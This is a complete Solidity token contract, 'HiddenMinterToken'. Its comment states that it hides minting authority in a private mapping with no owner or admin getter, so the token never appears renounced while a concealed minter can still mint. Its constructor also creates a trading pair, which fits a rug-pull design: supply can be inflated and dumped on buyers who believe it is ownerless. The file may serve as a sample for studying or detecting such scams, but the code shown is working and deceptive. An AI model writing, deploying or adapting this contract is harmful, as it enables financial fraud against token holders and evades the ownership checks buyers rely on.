// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IMinterFactory {
    function createPair(address, address) external returns (address);
}

// HiddenMinterToken has no owner(), getOwner() or admin(): minting is for
// the addresses in a private minters mapping (the deployer at first), and
// a minter can hand the power to another address and drop its own. No
// getter names the minter, so the token is never "renounced" while its
// code can mint.
contract HiddenMinterToken {
    mapping(address => bool) private minters;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply = 1e27;
    uint8 public constant decimals = 18;
    string public name = "Hidden Minter";
    string public symbol = "HMT";
    address public pair;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor(address factory, address weth) {
        minters[msg.sender] = true;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
        pair = IMinterFactory(factory).createPair(address(this), weth);
    }

    function handOver(address to) external {
        require(minters[msg.sender], "not a minter");
        minters[to] = true;
        minters[msg.sender] = false;
    }

    function mint(address to, uint256 v) external {
        require(minters[msg.sender], "not a minter");
        totalSupply += v;
        balanceOf[to] += v;
        emit Transfer(address(0), to, v);
    }

    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
    function transfer(address to, uint256 v) external returns (bool) { _move(msg.sender, to, v); return true; }
    function transferFrom(address f, address to, uint256 v) external returns (bool) {
        allowance[f][msg.sender] -= v;
        _move(f, to, v);
        return true;
    }

    function _move(address from, address to, uint256 v) internal {
        balanceOf[from] -= v;
        balanceOf[to] += v;
        emit Transfer(from, to, v);
    }
}
